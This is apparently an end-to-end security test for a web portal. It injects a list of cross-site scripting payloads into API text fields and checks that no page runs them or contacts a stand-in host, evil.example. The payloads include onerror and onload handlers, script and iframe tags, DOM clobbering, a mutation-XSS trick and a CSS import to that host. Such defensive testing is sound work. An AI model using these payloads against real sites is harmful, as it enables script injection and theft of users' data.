import { expect, test } from "vitest";
import { redirects, type RouteName } from "../../src/config/paths.ts";
import { routes } from "../../src/app/routes.ts";
import { examplePaths } from "../support/examplePaths.ts";
import { fetchWithRetry } from "./support/fetchWithRetry.ts";
import { setUpPortal } from "./support/portal.ts";
import { waitForExpect } from "./support/waitForExpect.ts";

const portal = setUpPortal();

/** What somebody could have made the service say: markup that acts, in every way that browsers know. */
const payloads = [
  `<img src=x onerror="window.hit=1">`,
  `<script>window.hit=1</script>`,
  `"><svg onload=window.hit=1>`,
  `<a href="javascript:window.hit=1" id=config name=getElementById>x</a>`,
  `<iframe srcdoc="<script>parent.hit=1</script>"></iframe><form action=//evil.example><input name=attributes></form>`,
  `{hit, select, other {<b>x</b>}} '{'`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hit=1&gt;">`,
  `\u202E<style>@import "//evil.example";*{display:none}</style>`,
];
/** Fields that are words for people; everything else has a form of its own, which the contract holds. */
const textFieldNames =
  /^(title|name|description|summary|text|content|body|html|message|question|answer|comment|subject|note|address|paymentTarget|serviceType|manufacturer|country|category|position|surname|topic|label|help|requirements|applicant|region|product)$/i;

let payloadIndex = 0;
function injectPayloads(value: unknown, key = ""): unknown {
  if (typeof value === "string")
    return textFieldNames.test(key)
      ? `${payloads[(payloadIndex += 1) % payloads.length]} ${value}`.slice(0, 4000)
      : value;
  if (Array.isArray(value)) return value.map((one) => injectPayloads(one, key));
  if (typeof value === "object" && value !== null)
    return Object.fromEntries(Object.entries(value).map(([name, one]) => [name, injectPayloads(one, name)]));
  return value;
}

const testedRoutes = (Object.keys(routes) as RouteName[]).filter(
  (name) => redirects[name] === undefined && name !== "identityReturn",
);

test(
  "markup in every word of the service acts on no screen, and every screen still stands",
  { timeout: 300_000 },
  async () => {
    // While the sanitiser reads an article, the browser reports what the policy refused; nothing of it is done.
    const { page, context } = await portal.newVisitor({
      as: "citizen",
      expectedConsoleErrors: /policy violation|Content Security Policy|Failed to load/,
    });
    const strange: string[] = [];
    context.on("request", (request) => {
      if (request.url().includes("evil.example")) strange.push(request.url());
    });
    page.on("dialog", (dialog) => {
      strange.push(dialog.message());
      void dialog.dismiss();
    });
    await page.route("**/api/**", async (route) => {
      const answer = await fetchWithRetry(route);
      if (answer.headers()["content-type"]?.includes("json") !== true) return route.fulfill({ response: answer });
      return route.fulfill({ response: answer, json: injectPayloads(await answer.json()) });
    });
    let told = 0;
    for (const name of testedRoutes) {
      await page.goto(examplePaths[name]);
      await page.getByRole("main").getByRole("heading", { level: 1 }).first().waitFor();
      await waitForExpect(() => page.locator("[aria-busy=true]").count()).toBe(0);
      expect(await page.evaluate(() => (window as { hit?: unknown }).hit), examplePaths[name]).toBeUndefined();
      expect(
        await page
          .locator("main :is(script, iframe, form[action*=evil], [onerror], [onload], a[href^=javascript])")
          .count(),
        examplePaths[name],
      ).toBe(0);
      expect(await page.getByRole("banner").isVisible(), examplePaths[name]).toBe(true);
      if (/<(img|script|svg|iframe|math)/.test(await page.getByRole("main").innerText())) told += 1;
    }
    // On most screens it could be read as what it is, so it did reach them.
    expect(told).toBeGreaterThan(20);
    expect(strange).toEqual([]);
    // What is still being read when the page closes is nobody's fault.
    await page.unrouteAll({ behavior: "ignoreErrors" });
  },
);
